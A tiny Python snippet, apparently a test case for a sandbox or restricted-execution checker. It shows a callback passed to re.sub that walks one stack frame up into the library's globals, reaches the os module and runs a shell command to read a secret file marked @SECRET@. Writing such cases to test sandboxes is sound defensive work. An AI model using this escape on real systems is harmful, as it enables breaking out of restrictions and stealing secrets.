# A callback that a library calls walks one frame up, into the library's globals.
# effect: run
import re
import sys
def leave(match):
    sys._getframe(1).f_globals["enum"].sys.modules["os"].system("cat @SECRET@")
    return ""
re.sub("a", leave, "a")
